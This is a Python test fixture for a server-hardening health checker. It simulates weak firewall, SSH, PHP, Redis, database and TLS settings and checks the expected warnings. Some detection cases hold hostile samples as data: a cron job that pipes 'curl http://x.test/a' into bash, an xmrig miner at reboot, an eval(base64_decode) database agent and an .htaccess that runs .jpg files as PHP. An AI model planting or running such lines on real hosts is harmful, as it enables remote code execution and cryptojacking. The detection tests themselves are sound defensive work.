# SPDX-FileCopyrightText: boxlift.portal contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Damages to what protects the host and the portal. See breaks.py."""

from __future__ import annotations

import socket
import ssl
import typing as t
import warnings

from unit.plugins.module_utils.health.breaks import SETTINGS, answer, both, context, later, sql, write
from unit.plugins.module_utils.health.breaks_host import fpm
from unit.plugins.module_utils.health.toy_host import RULESET
from unit.plugins.module_utils.health.toy_portal import DOMAIN
from unit.plugins.module_utils.health.toy_site import DAY, NOW

Change = t.Callable[[t.Any], t.Any]
PERIODIC = 'APT::Periodic::Unattended-Upgrade "1";\n'
SKIPPED = "/var/lib/boxlift/hardening.json"


def prints(program: str, text: str, status: int = 0) -> Change:
    return lambda world: world.host.programs.__setitem__(program, lambda *_arguments: (status, text, text))


def missing(*programs: str) -> Change:
    return lambda world: [world.host.programs.pop(program) for program in programs]


def host_file(name: str, text: str) -> Change:
    return lambda world: world.host.write(name, text)


def no_file(name: str) -> Change:
    return lambda world: world.host.path(name).unlink()


def kernel(name: str, value: str) -> Change:
    return host_file(f"/proc/sys/{name}", value)


def sshd(**settings: str) -> Change:
    return lambda world: world.host.sshd.update(settings)


def container(world: t.Any) -> None:
    world.host.container = "docker\n"


def rules(*changed: dict[str, t.Any]) -> Change:
    """The rule set with another chain, and further rules."""
    return lambda world: setattr(world.host, "ruleset", {"nftables": [*RULESET[:2], *changed]})


def chain(family: str = "inet", policy: str = "accept", hook: str = "input") -> dict[str, t.Any]:
    return {"chain": {"family": family, "table": "host", "name": "input", "hook": hook, "policy": policy}}


def rule(*expressions: dict[str, t.Any]) -> dict[str, t.Any]:
    return {"rule": {"family": "inet", "table": "host", "chain": "input", "expr": list(expressions)}}


MATCH: dict[str, t.Any] = {"match": {"op": "==", "left": {}, "right": 22}}


def nginx(old: str, new: str) -> Change:
    def damage(world: t.Any) -> None:
        assert old in world.host.nginx
        world.host.nginx = world.host.nginx.replace(old, new)

    return damage


def listens(place: str, port: int, says: bytes, address: str = "127.0.0.1") -> Change:
    """A server on this host, by its address as the kernel writes it."""

    def damage(world: t.Any) -> None:
        table = world.host.path("/proc/net/tcp")
        table.write_text(table.read_text() + f"   9: {place}:{port:04X} 00000000:0000 0A 0\n")
        world.host.servers[address, port] = says

    return damage


def left(name: str) -> Change:
    """Something that lies there for two days."""

    def damage(world: t.Any) -> None:
        world.host.write(name)
        world.host.age(name, 2)
        world.host.age(name.rpartition("/")[0], 2)

    return damage


def old_setup(world: t.Any) -> None:
    """The package's own file is as old as the package."""
    world.host.write("/etc/apt/apt.conf.d/20auto-upgrades", PERIODIC)
    world.host.age("/etc/apt/apt.conf.d/20auto-upgrades", 400)


def link(days: int = 90, shown: str = DOMAIN, **more: t.Any) -> Change:
    """The database lies on another host. The toy's web server is its end of the link, good for 90 days."""

    def damage(world: t.Any) -> None:
        issued = world.authority.issue("web.test", until=NOW + days * DAY + DAY / 2).read_text()
        for name in ("certificate.pem", "certificate.key"):
            world.host.write(f"/etc/boxlift/link/{name}", issued)
        world.host.write("/etc/boxlift/link/authority.pem", world.authority.path.read_text())
        world.host.write("/etc/boxlift/link/stunnel.conf", LINK)
        world.neighbours.add("10.0.12.3")
        world.use_certificate(world.authority, shown, **more)

    return damage


LINK = f"""\
cert = /etc/boxlift/link/certificate.pem

[other]
accept = 10.0.12.9:3307
connect = /run/mysqld/mysqld.sock
checkHost = third.test

[database]
client = yes
accept = /run/mysqld/mysqld.sock
connect = 10.0.12.3:3307
checkHost = {DOMAIN}
"""


def redis_socket(mode: int) -> Change:
    def damage(world: t.Any) -> None:
        path = world.host.path("/run/redis/redis.sock")
        path.parent.mkdir(parents=True)
        path.touch()
        path.chmod(mode)

    return damage


def database(cipher: str = "", **variables: str) -> Change:
    """A server with other variables; those that it listens by cannot be set while it runs."""

    def damage(world: t.Any) -> None:
        query = world.context.query

        def other(statement: str, *arguments: t.Any) -> list[dict[str, t.Any]]:
            if "Ssl_cipher" in statement:
                return [{"Value": cipher}]
            if statement.startswith("SHOW GLOBAL VARIABLES"):
                return [{"Variable_name": name, "Value": value} for name, value in variables.items()]
            return list(query(statement, *arguments))

        world.context.query = other

    return damage


def old_tls(world: t.Any) -> None:
    tls = world.authority.server_context(DOMAIN)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        tls.minimum_version = ssl.TLSVersion.TLSv1
    tls.set_ciphers("ALL:@SECLEVEL=0")
    world.use_context(tls)


def dead(world: t.Any) -> None:
    """A server that has answered, and can be reached no more."""
    assert world.finding("web.answers").status == "pass"

    def lost(host: str, port: int) -> socket.socket:
        raise TimeoutError(110, f"timed out: {host}:{port}")

    world.context.http_client.connect = lost


def wide_tree(world: t.Any) -> None:
    world.portal.root.chmod(0o755)
    world.portal.root.parent.chmod(0o755)


UNSET = fpm(disable_functions="", open_basedir="")
CLOSED = '"^/(upload|bitrix/(cache|managed_cache|stack_cache|html_pages|tmp))/.*[.]php(/|$)"'

BREAKS: list[tuple[str, Change, str, str]] = [
    # the host
    ("security.firewall", rules(chain()), "warn", "lets in everything by IPv4 and IPv6"),
    ("security.firewall", rules(chain("ip", "drop")), "warn", "lets in everything by IPv6"),
    ("security.firewall", rules(chain(policy="drop", hook="output")), "warn", "by IPv4 and IPv6"),
    ("security.firewall", rules(chain("ip", "drop"), chain("ip6", "drop")), "pass", "drops what it does not know"),
    ("security.firewall", rules(chain(), rule(MATCH, {"accept": None}), rule({"reject": None})), "pass", "drops"),
    ("security.firewall", rules(chain(), rule(MATCH, {"drop": None})), "warn", "by IPv4 and IPv6"),
    ("security.firewall", missing("nft"), "warn", "neither nft nor iptables is installed"),
    ("security.firewall", both(missing("nft"), prints("iptables", "-P INPUT DROP\n"),
                               prints("ip6tables", "-P INPUT ACCEPT\n")), "warn", "everything by IPv6"),
    ("security.firewall", both(missing("nft"), prints("iptables", "-P INPUT DROP\n"),
                               prints("ip6tables", "-P INPUT DROP\n")), "pass", "iptables drops"),
    ("security.ssh", sshd(passwordauthentication="yes"), "warn", "passwordauthentication yes"),
    ("security.ssh", sshd(permitrootlogin="yes", x11forwarding="yes"), "warn", "permitrootlogin yes, x11"),
    ("security.ssh", sshd(permitemptypasswords="yes"), "fail", "accounts without a password get in"),
    ("security.updates_automatic", prints("apt-config", 'APT::Periodic::Unattended-Upgrade "0";\n'), "warn", "not sw"),
    ("security.updates_automatic", no_file("/usr/bin/unattended-upgrade"), "warn", "is not installed"),
    ("security.updates_automatic", lambda w: w.host.age("/var/lib/apt/periodic/upgrade-stamp", 9.5), "warn", "9 days"),
    ("security.updates_automatic", no_file("/var/lib/apt/periodic/upgrade-stamp"), "warn", "but has never run"),
    ("security.updates_automatic", both(old_setup, no_file("/var/lib/apt/periodic/upgrade-stamp")), "warn", "never"),
    ("security.updates_automatic", both(old_setup, no_file("/var/lib/apt/periodic/upgrade-stamp"),
                                        host_file("/etc/apt/apt.conf.d/52x", PERIODIC)), "pass", "not run"),
    ("security.updates_pending", prints("apt-get", "Inst nginx [1.22] (1.23 Debian-Security:12/stable-security)\n"),
     "warn", "1 security updates wait: nginx"),
    ("security.updates_pending", host_file("/run/reboot-required", "x"), "warn", "a restart of the host"),
    ("security.updates_pending", both(host_file("/var/lib/apt/lists/a_Release", "Origin: boxlift\n"),
                                      prints("apt-get", "Inst nginx [1.22] (1.23 boxlift bundle:bundle)\n")),
     "warn", "1 packages of the bundle are newer than here: nginx"),
    ("security.fail2ban", missing("fail2ban-client"), "warn", "is not installed"),
    ("security.fail2ban", prints("fail2ban-client", "Failed to access socket", 255), "warn", "does not answer"),
    ("security.fail2ban", prints("fail2ban-client", "`- Jail list:\tsshd\n"), "warn", "no jail for portal"),
    ("security.fail2ban", prints("fail2ban-client", "`- Jail list:\t\n"), "warn", "no jail for ssh and portal"),
    ("security.core_dumps", no_file("/etc/security/limits.d/10-portal.conf"), "warn", "limits.d has no"),
    ("security.core_dumps", kernel("fs/suid_dumpable", "2"), "warn", "fs.suid_dumpable is 2"),
    ("security.kernel", kernel("kernel/kptr_restrict", "0"), "warn", "kernel.kptr_restrict is 0"),
    ("security.audit", missing("auditctl"), "warn", "auditd is not installed"),
    ("security.audit", prints("auditctl", "-w /etc/passwd -p wa\n"), "warn", "1 other places are watched"),
    ("security.audit", prints("auditctl", "No rules\n"), "warn", "0 other places"),
    ("security.cron", no_file("/etc/cron.deny"), "warn", "may use crontab"),
    ("security.cron", host_file("/usr/bin/at", ""), "warn", "may use at"),
    ("security.cron", lambda w: w.host.write(f"/var/spool/cron/crontabs/{(w.portal.root / SETTINGS).owner()}"), "warn",
     "has a crontab"),
    ("security.confinement", host_file("/sys/module/apparmor/parameters/enabled", "N\n"), "warn", "is not on"),
    ("security.sandbox", lambda w: w.host.units["nginx.service"].update(ProtectSystem="no"), "warn",
     "nginx.service without ProtectSystem"),
    ("security.memory_order", lambda w: w.host.units["php8.2-fpm.service"].update(OOMScoreAdjust="0"), "warn",
     "php8.2-fpm.service 0"),
    ("security.left_secrets", left("/root/.ansible/tmp/ansible-tmp-1/x.py"), "warn", "1: /root/.ansible/tmp/ans"),
    ("security.left_secrets", left("/home/admin/.ansible_async/j1"), "warn", "/home/admin/.ansible_async/j1"),
    ("security.left_secrets", host_file("/root/.ansible_async/j2", "x"), "pass", "nothing"),
    # the portal
    ("security.php_functions", fpm(disable_functions="exec,system"), "warn", "may be called: passthru, shell_exec"),
    ("security.php_functions", UNSET, "warn", "exec"),
    ("security.php_open_basedir", UNSET, "warn", "is not set"),
    ("security.php_open_basedir", fpm(open_basedir="/srv/portal/www/:/"), "warn", "holds /"),
    ("security.php_sessions", fpm(session__use_strict_mode="Off"), "warn", "session.use_strict_mode is off"),
    ("security.php_sessions", fpm(session__use_trans_sid="1"), "warn", "session.use_trans_sid is on"),
    ("security.php_in_uploads", nginx(CLOSED, '"^/upload/.*[.]php"'), "fail", "PHP runs in /bitrix/cache"),
    ("security.php_in_uploads", nginx(f"~* {CLOSED}", "/nothing/"), "fail", "/upload"),
    ("security.php_in_uploads", both(nginx("return 404;", ""), nginx(f"~* {CLOSED}", "^~ /upload/")), "fail", "/bitr"),
    ("security.login_limits", nginx("limit_req zone=logins burst=60 nodelay;", ""), "warn", "has no limit_req"),
    ("security.access_log", nginx("$portal_logged_address", "$request"), "warn", "format portal writes whole"),
    ("security.access_log", nginx("access.log portal;", "access.log;"), "warn", "format combined writes whole"),
    ("security.access_log", nginx("access_log /var/log/nginx/access.log portal;", ""), "warn", "of its default"),
    ("security.access_log", nginx("access_log /var/log/nginx/access.log portal;", "access_log off;"), "pass", "0 logs"),
    ("security.tree_closed", wide_tree, "warn", "www has 0755"),
    ("security.redis", listens("0100007F", 6379, b"+PONG\r\n"), "warn", "127.0.0.1:6379 answers every account"),
    ("security.redis", listens("00000000", 6379, b"+PONG\r\n"), "fail", "0.0.0.0:6379 answers everybody"),
    ("security.redis", both(listens("030C000A", 7000, b"+PONG\r\n", "10.0.12.3"),
                            host_file("/etc/redis/redis.conf", "port 7000\n")), "fail", "10.0.12.3:7000 answers"),
    ("security.redis", listens("0100007F", 6379, b"-NOAUTH Authentication required.\r\n"), "pass", "with a password"),
    ("security.redis", redis_socket(0o777), "warn", "redis.sock is open to every account"),
    ("security.redis", redis_socket(0o770), "pass", "no port"),
    ("security.database_network", database(bind_address="0.0.0.0", have_ssl="DISABLED"), "fail", "without TLS"),
    ("security.database_network", database(bind_address="10.0.12.3", have_ssl="DISABLED"), "warn", "without TLS"),
    ("security.database_network", database(bind_address="*", have_ssl="YES"), "warn", "and TLS is not demanded"),
    ("security.database_network", database("TLS_AES", bind_address="10.0.12.3", have_ssl="YES"), "pass", "uses TLS"),
    ("security.database_network", database(bind_address="*", have_ssl="YES", require_secure_transport="ON"), "pass",
     "over TLS only"),
    ("security.link_certificates", link(), "pass",
     f"this host 90 days, the authority 3649 days, database at {DOMAIN} 89 days"),
    ("security.link_certificates", link(29), "warn", "this host 29 days"),
    ("security.link_certificates", link(until=NOW + 20 * DAY), "warn", f"database at {DOMAIN} 19 days"),
    ("security.link_certificates", link(-1), "fail", "expired: this host"),
    ("security.link_certificates", both(link(5000), later(4000)), "fail", "expired: the authority"),
    ("security.link_certificates", link(until=NOW - DAY), "fail", "10.0.12.3:3307: certificate has expired"),
    ("security.link_certificates", link(shown="third.test"), "fail", "Hostname mismatch"),
    ("security.planted_files", write("upload/main/x/radio.php"), "warn", "1: upload/main/x/radio.php"),
    ("security.planted_files", write("upload/x.PHTML"), "warn", "upload/x.PHTML"),
    ("security.planted_files", write("upload/.htaccess", "AddHandler application/x-httpd-php .jpg\n"), "warn", ".ht"),
    ("security.planted_files", write("upload/.htaccess", "Options -Indexes\n"), "pass", "entries"),
    ("security.planted_jobs", host_file("/etc/cron.d/x", "* * * * * root curl -s http://x.test/a | bash\n"), "fail",
     "/etc/cron.d/x starts what it fetches"),
    ("security.planted_jobs", host_file("/var/spool/cron/crontabs/portal", "@reboot /tmp/.x/xmrig\n"), "fail",
     "/var/spool/cron/crontabs/portal"),
    ("security.planted_jobs", sql("UPDATE b_agent SET NAME = 'eval(base64_decode(\"eA==\"));' WHERE ID = 2"), "fail",
     "agents with code: 2"),
    # from outside
    ("security.open_ports", lambda w: w.open_ports.update({3306, 8080}), "fail", "open: 3306 (MySQL), 8080"),
    ("security.open_ports", lambda w: w.open_ports.add(8888), "warn", "open: 8888"),
    ("security.tls_versions", old_tls, "warn", "takes TLS 1.1 or older"),
    ("security.hsts", answer("/", 200), "warn", "is missing"),
    ("security.hsts", answer("/", 200, {"Strict-Transport-Security": "max-age=300"}), "warn", "only 300 seconds"),
    ("security.page_policies", answer("/", 200), "warn", "missing: Content-Security-Policy, X-Frame-Options, Referrer"),
    ("security.page_policies", answer("/", 200, {"Content-Security-Policy": "frame-ancestors 'self'"}), "warn",
     "missing: Referrer-Policy"),
]  # fmt: skip

BLINDS: list[tuple[str, Change, str]] = [
    ("security.firewall", prints("nft", "Operation not permitted", 1), "nft failed with status 1"),
    ("security.firewall", prints("nft", "table inet host {}"), "nft printed no rule set"),
    ("security.firewall", host_file(SKIPPED, "[]"), "holds no object of JSON"),
    ("security.ssh", prints("/usr/sbin/sshd", "Missing privilege separation directory: /run/sshd", 255), "/run/sshd"),
    ("security.ssh", prints("/usr/sbin/sshd", ""), "does not say how accounts log in"),
    ("security.updates_automatic", missing("apt-config"), "has no apt"),
    ("security.updates_pending", no_file("/var/lib/apt/lists/packages.example_Packages"), "has no lists of packages"),
    ("security.updates_pending", later(30), "are 30 days old"),
    ("security.updates_pending", both(host_file("/var/lib/apt/lists/a_Release", "Origin: boxlift\n"),
                                      prints("apt-get", "")), "come from a bundle"),
    ("security.updates_pending", prints("apt-get", "E: broken", 100), "apt-get failed with status 100"),
    ("security.fail2ban", prints("fail2ban-client", "pong"), "named no list of jails"),
    ("security.core_dumps", no_file("/proc/sys/fs/suid_dumpable"), "is not there"),
    ("security.core_dumps", both(container, kernel("fs/suid_dumpable", "2")), "the machine under this docker"),
    ("security.kernel", both(container, kernel("kernel/kptr_restrict", "0")), "kernel.kptr_restrict is 0: set by"),
    ("security.audit", container, "belongs to the machine under this docker"),
    ("security.confinement", container, "belongs to the machine under this docker"),
    ("security.sandbox", missing("systemctl"), "has no systemd"),
    ("security.sandbox", prints("systemctl", "Id=nginx.service\nLoadState=not-found\n"), "neither nginx nor PHP-FPM"),
    ("security.memory_order", missing("systemctl"), "has no systemd"),
    ("security.left_secrets", context(host_root=None), "host_root was not given"),
    ("security.php_functions", lambda w: w.fpm.pop("disable_functions"), "does not say which functions"),
    ("security.php_open_basedir", lambda w: w.fpm.pop("open_basedir"), "does not say where"),
    ("security.php_sessions", lambda w: w.fpm.pop("session.use_strict_mode"), "how it treats sessions"),
    ("security.php_in_uploads", missing("nginx"), "nginx is not on this host"),
    ("security.php_in_uploads", nginx("return 404;", "proxy_pass http://127.0.0.1:8888;"), "another web server"),
    ("security.php_in_uploads", nginx("return 404;", "if ($x) { return 403; } fastcgi_pass unix:/x;"), "an `if`"),
    ("security.php_in_uploads", nginx(f'server_name "{DOMAIN}"', "server_name other.test"), "has the name"),
    ("security.php_in_uploads", nginx(CLOSED, '"^/(upload"'), "cannot be read here"),
    ("security.login_limits", prints("nginx", "nginx: [emerg] unknown directive", 1), "nginx failed with status 1"),
    ("security.access_log", prints("nginx", "server {}"), "named no configuration file"),
    ("security.redis", no_file("/proc/net/tcp"), "/proc/net/tcp is not there"),
    ("security.database_network", database(have_ssl="YES"), "does not say where it listens"),
    ("security.link_certificates", both(link(), lambda w: w.neighbours.remove("10.0.12.3")), "cannot be reached"),
    ("security.link_certificates", both(link(), host_file("/etc/boxlift/link/certificate.pem", "x")), "no certificate"),
    ("security.tls_versions", dead, "could not be tried: "),
]  # fmt: skip

SKIPS: list[tuple[str, Change, str]] = [
    *((f"security.{name}", host_file(SKIPPED, f'{{"{part}": "the customer has his own"}}'),
       "switched off by hardening_skip: the customer has his own")
      for name, part in [("firewall", "firewall"), ("ssh", "ssh"),
                         ("fail2ban", "fail2ban"), ("core_dumps", "kernel"), ("kernel", "kernel"),
                         ("audit", "audit"), ("cron", "accounts"), ("confinement", "apparmor")]),
    ("security.memory_order", lambda w: w.host.units.pop("mariadb.service"), "not services of the same host"),
    ("security.ssh", missing("/usr/sbin/sshd"), "has no SSH server"),
    ("security.hsts", both(context(base_url=f"http://{DOMAIN}")), "is not https"),
    ("security.tls_versions", both(context(base_url=f"http://{DOMAIN}")), "is not https"),
    ("security.planted_files", lambda w: w.portal.root.joinpath("upload").rename(w.portal.root / "x"), "no folder"),
]  # fmt: skip
